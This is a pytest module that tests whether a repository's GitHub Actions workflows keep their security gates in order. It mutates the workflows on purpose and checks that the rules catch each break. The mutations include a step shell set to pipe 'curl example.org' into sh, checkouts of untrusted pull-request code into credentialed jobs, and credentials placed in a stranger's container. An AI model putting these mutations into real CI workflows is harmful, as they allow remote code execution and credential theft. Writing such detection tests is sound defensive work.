"""The gates' order: the workflows are what the table says, and each way around a gate is found."""

import copy

import pytest

from tests.workflows import order_rules as rules
from tests.workflows.changes import (
    Change,
    checkout,
    first,
    job,
    job_of,
    last,
    step,
    step_of,
    variable,
    weaker,
    without,
)
from tests.workflows.documents import ROOT, all_of_them, parse
from tests.workflows.order import ORDER
from tests.workflows.rules import Rule

WORKFLOWS = all_of_them()


P, S, R = "production-deploy", "staging-deploy", "rollback"
BROKEN: dict[str, tuple[Rule, Change]] = {
    "production runs whatever evidence said": (rules.order_of_jobs, job(P, "deploy", when="always()")),
    "production waits for nothing": (rules.order_of_jobs, job(P, "deploy", needs=None)),
    "production waits for evidence only": (rules.order_of_jobs, job(P, "deploy", needs="evidence")),
    "a release is tagged without evidence": (rules.order_of_jobs, job(P, "tag", needs=None, when=None)),
    "a release is tagged whatever evidence said": (
        rules.order_of_jobs,
        job(P, "tag", when="!inputs.dry_run"),
    ),
    "evidence says yes before it has looked": (
        rules.order_of_jobs,
        job(P, "evidence", outputs={"go": "true"}),
    ),
    "another step is taken for evidence": (
        rules.order_of_steps,
        step(P, "evidence", "strata evidence", id="looked"),
    ),
    "a dry run deploys": (
        rules.order_of_jobs,
        job(P, "tag", when="needs.evidence.outputs.go == 'true'"),
    ),
    "staging waits for nothing": (rules.order_of_jobs, job(S, "deploy", needs=None, when=None)),
    "staging runs whatever evidence said": (rules.order_of_jobs, job(S, "deploy", when=None)),
    "what failed at staging is released": (
        rules.order_of_jobs,
        job(S, "release", when="always() && github.sha != ''"),
    ),
    "what never was at staging is released": (
        rules.order_of_jobs,
        job(S, "release", needs="evidence", when="always()"),
    ),
    "staging gets main's newest program": (
        rules.order_of_jobs,
        lambda d: step_of(d, S, "deploy", "actions/checkout")["with"].pop("ref"),
    ),
    "a rollback leaves what waits for approval": (rules.order_of_jobs, job(R, "deploy", needs=None)),
    "a rollback is held up by a clearing that failed": (rules.order_of_jobs, job(R, "deploy", when=None)),
    "a rollback goes on although it was cancelled": (rules.order_of_gates, job(R, "deploy", when="always()")),
    "images come from any branch": (
        rules.order_of_jobs,
        job("ci", "images", when="!cancelled() && needs.required.result == 'success'"),
    ),
    "images come after anything": (rules.order_of_jobs, weaker("ci", "images", "|| !cancelled()")),
    "a fork gets a plan": (rules.order_of_jobs, weaker("ci", "plan", "|| true")),
    "a preview is made unasked": (rules.order_of_jobs, job("pr-test", "up", when="always()")),
    "a preview is made beside the look": (rules.order_of_jobs, job("pr-test", "up", needs=None, when=None)),
    "a job may read more": (
        rules.order_of_jobs,
        job(P, "tag", permissions={"actions": "read", "contents": "read", "packages": "write"}),
    ),
    "a job is added": (
        rules.order_of_jobs,
        lambda d: d[f"{P}.yml"]["jobs"].update(hotfix=copy.deepcopy(job_of(d, P, "deploy"))),
    ),
    "a job is gone": (rules.order_of_jobs, lambda d: d["ci.yml"]["jobs"].pop("integration")),
    "a run says which Vault": (
        rules.order_of_jobs,
        variable(S, "deploy", "", VAULT_ADDR="${{ inputs.commit }}"),
    ),
    "a variable of the repository says which Vault": (
        rules.order_of_jobs,
        variable(P, "deploy", "", VAULT_ADDR="${{ vars.ADDRESS }}"),
    ),
    "a run says whose the packages are": (
        rules.order_of_jobs,
        variable(P, "deploy", "", GITHUB_OWNER="${{ inputs.owner }}"),
    ),
    "a run says which state": (
        rules.order_of_steps,
        variable(R, "deploy", "pulumi up", PULUMI_BACKEND_URL="${{ vars.STATE }}"),
    ),
    "a run says which release": (
        rules.order_of_steps,
        variable(P, "deploy", "pulumi up", RELEASE="${{ inputs.release }}"),
    ),
    "a workflow says which Vault": (
        rules.order_of_starts,
        lambda d: d[f"{S}.yml"]["env"].update(VAULT_ADDR="${{ vars.VAULT_ADDR }}"),
    ),
    "a pull request starts what has credentials": (
        rules.order_of_starts,
        lambda d: d["drift.yml"]["on"].update(pull_request=None),
    ),
    "staging waits for runs of all branches": (
        rules.order_of_starts,
        lambda d: d[f"{S}.yml"]["on"]["workflow_run"].pop("branches"),
    ),
    "a workflow is added": (
        rules.order_of_starts,
        lambda d: d.update({"hotfix.yml": copy.deepcopy(d[f"{R}.yml"])}),
    ),
    "the tests may fail": (rules.order_of_keys, job("ci", "test", continue_on_error=True)),
    "the tests' step may fail": (
        rules.order_of_keys,
        step("ci", "test", "make test", continue_on_error=True),
    ),
    "the tests are skipped": (rules.order_of_steps, step("ci", "test", "make test", when=False)),
    "the tests are gone": (rules.order_of_steps, without("ci", "test", "make test")),
    "the judge is asked sometimes": (
        rules.order_of_steps,
        step("ci", "required", "strata ci result", when="github.event_name == 'push'"),
    ),
    "the judge hears something else": (
        rules.order_of_steps,
        variable("ci", "required", "strata ci result", NEEDS="{}"),
    ),
    "a proof may fail": (rules.order_of_keys, step(P, "deploy", "strata smoke", continue_on_error=True)),
    "credentials are in somebody's container": (
        rules.order_of_keys,
        job(S, "deploy", container="somebody/image:latest"),
    ),
    "somebody's service stands beside credentials": (
        rules.order_of_keys,
        job(S, "deploy", services={"cache": {"image": "somebody/image"}}),
    ),
    "a step has a shell of its own": (
        rules.order_of_keys,
        step(S, "deploy", "pulumi up", shell='bash -c "curl example.org | sh" {0}'),
    ),
    "all steps have a shell of their own": (
        rules.order_of_keys,
        job(P, "deploy", defaults={"run": {"shell": "sh {0}"}}),
    ),
    "a step runs in another folder": (
        rules.order_of_keys,
        step(P, "deploy", "pulumi up", working_directory="apps/backend"),
    ),
    "the pull request's head is checked out": (
        rules.order_of_jobs,
        checkout(P, "deploy", ref="${{ github.event.pull_request.head.sha }}"),
    ),
    "production gets main's program": (rules.order_of_jobs, checkout(P, "deploy", ref="main")),
    "a preview is made by what the pull request's branch says": (
        rules.order_of_checkouts,
        checkout("pr-test", "up", ref="${{ github.event.pull_request.head.sha }}"),
    ),
    "evidence is looked at by the commit that it is about": (
        rules.order_of_checkouts,
        checkout(S, "evidence", ref="${{ env.COMMIT }}"),
    ),
    "staging gets the program of a commit that nobody proved": (
        rules.order_of_checkouts,
        lambda d: (
            checkout(S, "deploy", ref="${{ env.COMMIT }}")(d),
            job(S, "deploy", needs=None)(d),
        ),
    ),
    "the code is somebody's": (
        rules.order_of_keys,
        checkout(P, "deploy", repository="somebody/finance_report"),
    ),
    "a step comes before the set-up": (
        rules.order_of_steps,
        lambda d: job_of(d, P, "deploy")["steps"].insert(0, {"run": "make check"}),
    ),
    "an action comes after the login": (
        rules.order_of_steps,
        lambda d: job_of(d, P, "deploy")["steps"].append({"uses": f"actions/cache@{'a' * 40}"}),
    ),
    "the engine reads with the job's token": (
        rules.order_of_tokens,
        variable(P, "deploy", "pulumi up", GITHUB_TOKEN="${{ github.token }}"),
    ),
    "a command has the login's token": (
        rules.order_of_tokens,
        variable(P, "deploy", "strata release record", GITHUB_TOKEN="${{ env.STRATA_GITHUB_TOKEN }}"),
    ),
    "the lock is not taken": (rules.order_of_commands, without(P, "deploy", "strata lock take")),
    "the lock is taken before the login": (
        rules.order_of_commands,
        first(P, "deploy", "strata lock take"),
    ),
    "the lock is taken when the engine has ended": (
        rules.order_of_commands,
        last(R, "deploy", "strata lock take"),
    ),
    "the lock is another stack's": (
        rules.order_of_commands,
        step(P, "deploy", "strata lock take", run="strata lock take staging"),
    ),
    "the lock is given back before the engine runs": (
        rules.order_of_commands,
        first(S, "deploy", "strata lock release"),
    ),
    "the lock is kept after a failure": (
        rules.order_of_commands,
        step(S, "deploy", "strata lock release", when=None),
    ),
    "a preview's lock is not taken": (rules.order_of_commands, without("pr-test", "up", "strata lock take")),
    "nobody logs out": (rules.order_of_commands, without(P, "deploy", "strata logout")),
    "nobody logs out after a failure": (
        rules.order_of_commands,
        step("drift", "production", "strata logout", when=None),
    ),
    "a plan leaves its credentials": (rules.order_of_commands, without("ci", "plan", "strata logout")),
    "the login comes late": (rules.order_of_commands, last("sweep", "sweep", "strata login")),
    "the login is made sometimes": (
        rules.order_of_commands,
        step(S, "deploy", "strata login", when="github.event_name == 'push'"),
    ),
    "what was rolled back to is not asked": (
        rules.order_of_commands,
        lambda d: job_of(d, P, "deploy")["steps"].remove(
            next(s for s in job_of(d, P, "deploy")["steps"] if s.get("id") == "proved")
        ),
    ),
    "staging is not asked": (rules.order_of_commands, without(S, "deploy", "strata smoke")),
    "production is asked before it is changed": (rules.order_of_commands, first(R, "deploy", "strata smoke")),
    "production asks nobody": (rules.order_of_gates, job(P, "deploy", needs=None)),
    "production asks, and does not listen": (rules.order_of_gates, job(P, "deploy", when="always()")),
    "staging asks nobody": (rules.order_of_gates, job(S, "deploy", needs=None)),
    "a rollback clears nothing": (rules.order_of_gates, job(R, "deploy", needs=None)),
    "a release's tag asks nobody": (rules.order_of_gates, job(P, "tag", needs=None)),
    "a version asks nobody": (rules.order_of_gates, job(S, "release", needs=None)),
}


@pytest.mark.parametrize("rule", rules.RULES, ids=lambda rule: rule.__name__)
def test_the_workflows_keep_the_order(rule: Rule) -> None:
    assert list(rule(WORKFLOWS)) == []


@pytest.mark.parametrize(("rule", "change"), BROKEN.values(), ids=BROKEN)
def test_what_breaks_the_order_is_found(rule: Rule, change: Change) -> None:
    documents = copy.deepcopy(WORKFLOWS)
    change(documents)

    assert documents != WORKFLOWS
    assert list(rule(documents))


def test_every_rule_of_the_order_is_broken_by_something() -> None:
    assert {rule for rule, _ in BROKEN.values()} == set(rules.RULES)


@pytest.mark.parametrize(("file", "name"), ORDER, ids=lambda one: one)
def test_no_job_may_lose_a_step_without_being_found(file: str, name: str) -> None:
    for place in range(len(WORKFLOWS[file]["jobs"][name]["steps"])):
        documents = copy.deepcopy(WORKFLOWS)
        documents[file]["jobs"][name]["steps"].pop(place)

        assert list(rules.order_of_steps(documents)), f"without step {place}"


def test_the_set_up_is_what_stands_before_every_login() -> None:
    action = parse((ROOT / ".github/actions/setup/action.yml").read_text(encoding="utf-8"))
    steps = action["runs"]["steps"]

    assert [step.keys() - {"name"} for step in steps] == [{"uses", "with"}, *[{"shell", "run"}] * 2]
    assert steps[0]["uses"].startswith("actions/setup-python@")
    assert [(step["shell"], step["run"]) for step in steps[1:]] == [
        ("bash", "make toolchain"),
        ("bash", "python3 -m toolchain runner"),
    ]
